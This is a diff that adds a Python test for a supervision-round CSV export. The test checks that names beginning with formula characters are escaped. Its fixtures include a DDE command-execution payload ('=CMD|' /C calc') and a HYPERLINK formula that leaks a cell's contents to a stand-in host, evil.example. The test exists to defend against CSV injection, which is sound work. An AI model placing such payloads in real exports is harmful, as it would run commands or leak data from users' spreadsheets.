@@ -55,3 +55,25 @@ async def test_the_default_supervision_day_is_this_months_first_tuesday(platform
     async with client(platform.url("alerts"), "tasks:write", unit_id="some-unit") as town:
         assert (await town.post("/api/v1/supervision-rounds", json={"date": "2031-01-07"})).status_code == 403
     assert (await alerts.get("/api/v1/supervision-rounds/nope")).status_code == 404
+
+
+async def test_the_round_csv_escapes_names_a_spreadsheet_would_run(platform, alerts):
+    """Seen: a project named =HYPERLINK(...) was exported raw in the supervision-round CSV supervisors open in Excel."""
+    owner = unit(name="=CMD|' /C calc'!A0", kind="street")
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
+    red = project(owner.id, name=hostile, stage="signed", stage_dates={"signed": "2027-01-10"})
+    others = [project(owner.id, name=name, stage="signed", stage_dates={"signed": "2027-01-10"})
+              for name in ("+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTAB", "普通项目")]
+    await send(platform, event(owner, owner.id), *(event(p, p.id) for p in (red, *others)))
+    for p in (red, *others):
+        await known(alerts, p.id)
+    await scan(alerts, "2027-07-15")
+    on = f"{random.randint(2040, 2990)}-1{random.randint(0, 2)}-2{random.randint(0, 8)}"
+    body = (await alerts.post("/api/v1/supervision-rounds", json={"date": on})).json()
+    exported = await alerts.get(f"/api/v1/supervision-rounds/{body['id']}", params={"format": "csv"})
+    rows = [r for r in csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff"))) if r["item"] == "project"
+            and r["unit_code"] == owner.code]
+    names = {r["project_name"] for r in rows}
+    assert "'" + hostile in names and hostile not in names
+    assert {"'+SUM(1,2)", "'-2+3", "'@SUM(A1)", "'\tTAB", "普通项目"} <= names
+    assert {r["unit_name"] for r in rows} == {"'=CMD|' /C calc'!A0"}
